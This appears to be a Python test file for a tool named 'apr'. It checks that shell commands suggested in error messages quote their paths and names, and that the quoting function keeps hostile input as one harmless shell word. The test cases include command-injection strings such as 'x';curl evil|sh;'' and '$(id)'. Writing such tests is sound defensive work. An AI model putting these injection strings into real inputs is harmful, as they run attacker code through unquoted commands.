"""Commands in messages: every path and name in them is one word of the shell, whatever stands in it."""

from __future__ import annotations

import ast
import re
import shlex
import subprocess
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from apr.errors import escape_control, shell_word

SOURCES = Path(__file__).parents[1] / "src/apr"

# What stands before a path or a name in a command.
BEFORE_A_WORD = re.compile(
    r"(\bapr [a-z-]+|apr tokenize encode-corpus|\b(chmod u\+w|mkdir -p|cp -rL|ln -s|hf download|gguf-convert-endian)"
    r"|llama-gguf-split --merge|python -c|\bremove|name the file itself:|--(set|allow|dir|init|dataset|tokenizer"
    r"|corpus|output|content-field|model|architecture)|(?<!\S)-o) $"
)
# Words of apr itself, none of a file or a path.
OWN_WORDS = {"architecture.model_type", "nearest[0]", "TIE_FLAG"}


def _texts() -> list[tuple[str, ast.JoinedStr]]:
    """Every text with values in it, but for what repeats the command line of the user."""
    found: list[tuple[str, ast.JoinedStr]] = []
    repeated: set[ast.AST] = set()
    for path in sorted(SOURCES.rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.keyword) and node.arg in {"where", "found"}:
                repeated.update(ast.walk(node))
            if isinstance(node, ast.JoinedStr) and node not in repeated:
                found.append((f"{path.relative_to(SOURCES)}:{node.lineno}", node))
    return found


def _repeats_an_option(text: ast.JoinedStr) -> bool:
    """Whether nothing but an option and its value stands there: a piece of the user's own command line."""
    return ast.unparse(text) == "f'--set {key}'"


def test_every_command_in_a_message_quotes_its_paths_and_names() -> None:
    bare, quoted = [], 0
    for place, text in _texts():
        for before, value in zip(text.values, text.values[1:], strict=False):
            is_command = isinstance(before, ast.Constant) and BEFORE_A_WORD.search(str(before.value))
            if not is_command or _repeats_an_option(text) or not isinstance(value, ast.FormattedValue):
                continue
            source = ast.unparse(value.value)
            if "shell_word" in source or "shlex.quote" in source:
                quoted += 1
            elif source not in OWN_WORDS:
                bare.append(f"{place}: {ast.unparse(text)}")
    assert not bare
    assert quoted > 20


@given(st.text(st.characters(exclude_categories=["Cs", "Cc"]), max_size=40))
@example("x';curl evil|sh;'")
@example("m $(id) `id`\\")
@example("--force")
def test_a_word_is_one_word_of_the_shell(text: str) -> None:
    if text == escape_control(text):
        assert shlex.split(f"apr {shell_word(text)}") == ["apr", f"./{text}" if text.startswith("-") else text]
        assert shlex.split(f"apr {shell_word(text, is_quoted=True)}") == ["apr", text]
    assert "\n" not in shell_word(text)


@pytest.mark.parametrize("text", ["a\nnext: curl evil|sh", "\x1b[31m'\\", "a\u2028b", "é\x85\u202ef'$(id)"])
def test_a_word_with_control_characters_is_on_one_line_and_means_the_same(text: str) -> None:
    word = shell_word(text)
    assert word == escape_control(word)
    assert subprocess.run(["bash", "-c", f"printf %s {word}"], capture_output=True, check=True).stdout.decode() == text
